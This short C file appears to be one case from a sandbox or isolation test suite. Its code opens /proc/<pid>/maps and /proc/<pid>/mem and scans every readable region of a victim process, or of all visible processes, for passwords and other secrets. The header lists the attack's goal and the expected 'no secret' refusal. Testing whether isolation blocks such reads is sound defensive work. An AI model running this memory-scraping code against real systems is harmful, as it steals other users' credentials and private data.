// Tries: to search the memory of every process it can see through /proc. Wins: pictures and passwords of its neighbours.
// Refused: ^\d+ (readable|unreadable), no secret
// Control: any
// Needs: victim
#include "../library/attack.h"

static int readable;

/* Whole regions, piece by piece: what the process keeps lies anywhere. */
static const char *search(const char *pid) {
  static char bytes[CHUNK];
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%s/maps", pid);
  FILE *maps = fopen(path, "r");
  snprintf(path, sizeof path, "/proc/%s/mem", pid);
  int memory = open(path, O_RDONLY);
  const char *won = NULL;
  readable += memory >= 0;
  while (!won && maps && memory >= 0 && fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    if (sscanf(line, "%lx-%lx r", &from, &to) != 2 || strstr(line, ".so")) continue;
    for (; !won && from < to; from += sizeof bytes) {
      ssize_t length = pread(memory, bytes, to - from < sizeof bytes ? to - from : sizeof bytes, (off_t)from);
      if (length <= 0) break;
      won = find_secret(bytes, (size_t)length);
    }
  }
  if (maps) fclose(maps);
  if (memory >= 0) close(memory);
  return won;
}

static const char *attack(void) {
  char text[64];
  const char *won = search(target("victim"));
  if (!won && *target("wild")) won = each_process(search);
  if (won) return won;
  snprintf(text, sizeof text, "%d readable, no secret", readable);
  return refuse_plainly(text);
}
